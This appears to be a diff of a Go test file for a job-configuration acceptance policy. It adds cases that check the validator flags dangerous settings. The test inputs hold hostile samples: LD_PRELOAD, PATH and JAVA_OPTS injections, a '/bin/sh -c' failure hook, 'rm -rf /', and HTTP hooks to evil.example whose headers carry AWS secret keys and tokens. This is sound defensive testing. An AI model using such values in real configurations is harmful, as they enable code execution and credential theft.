@@ -6,7 +6,8 @@ import (
 )
 
 func TestAcceptPolicy(t *testing.T) {
-	policy := AcceptPolicy{Applied: true, CommandDirs: []string{"/opt/jobs"}, HookHosts: []string{"hooks.internal", "10.0.0.5:8443"}}
+	policy := AcceptPolicy{Applied: true, CommandDirs: []string{"/opt/jobs"}, HookHosts: []string{"hooks.internal", "10.0.0.5:8443"}, Env: []string{"REGION", "PATH_SUFFIX"}}
+	dirsOnly := AcceptPolicy{Applied: true, CommandDirs: []string{"/opt/jobs"}}
 	tests := []struct {
 		name   string
 		policy AcceptPolicy
@@ -23,10 +24,15 @@ func TestAcceptPolicy(t *testing.T) {
 		{"dot-dot out of the dir", policy, "script: [/opt/jobs/../../bin/sh]", "runs /bin/sh"},
 		{"relative program", policy, "script: [jobs/a.sh]", "not an absolute path"},
 		{"shell string", policy, `script: "/opt/jobs/a.sh"`, "shell string"},
-		{"LD_PRELOAD", policy, "script: {command: [/opt/jobs/a.sh], env: {LD_PRELOAD: /tmp/x.so}}", "script.env sets LD_PRELOAD"},
+		{"LD_PRELOAD", policy, "script: {command: [/opt/jobs/a.sh], env: {LD_PRELOAD: /tmp/x.so}}", "script.env sets LD_PRELOAD, which --accept-env does not name"},
 		{"PATH", policy, "script: {command: [/opt/jobs/a.sh], env: {PATH: /tmp}}", "script.env sets PATH"},
-		{"lower-case bash_env", policy, "script: {command: [/opt/jobs/a.sh], env: {bash_env: /tmp/x}}", "script.env sets bash_env"},
-		{"plain env", policy, "script: {command: [/opt/jobs/a.sh], env: {REGION: eu}}", ""},
+		{"JAVA_OPTS", policy, "script: {command: [/opt/jobs/a.sh], env: {JAVA_OPTS: '-XX:OnOutOfMemoryError=id'}}", "script.env sets JAVA_OPTS"},
+		{"a variable --accept-env names", policy, "script: {command: [/opt/jobs/a.sh], env: {REGION: eu}}", ""},
+		{"no --accept-env: no variable", dirsOnly, "script: {command: [/opt/jobs/a.sh], env: {REGION: eu}}", "script.env sets REGION"},
+		{"a header with $VAR to any host", dirsOnly, "http: {url: 'https://evil.example/', headers: {X-Leak: '$AWS_SECRET_ACCESS_KEY'}}", "http.headers X-Leak sends a variable"},
+		{"a header with ${VAR} to any host", dirsOnly, "http: {url: 'https://evil.example/', headers: {X-Leak: 'Bearer ${TOKEN}'}}", "http.headers X-Leak sends a variable"},
+		{"a plain header to any host", dirsOnly, "http: {url: 'https://evil.example/', headers: {X-Id: shardd}}", ""},
+		{"a header with a variable to an accepted host", policy, "http: {url: 'https://hooks.internal/', headers: {Authorization: 'Bearer ${TOKEN}'}}", ""},
 		{"onFailure command", policy, "script: [/opt/jobs/a.sh]\n    onFailure: {command: [/bin/sh, -c, x]}", "onFailure.command runs /bin/sh"},
 		{"listener", policy, "script: [/opt/jobs/a.sh]\n    listeners: {after: 'rm -rf /'}", "listeners.after is a shell string"},
 		{"hook on an accepted host", policy, "http: {url: 'https://hooks.internal/run'}", ""},
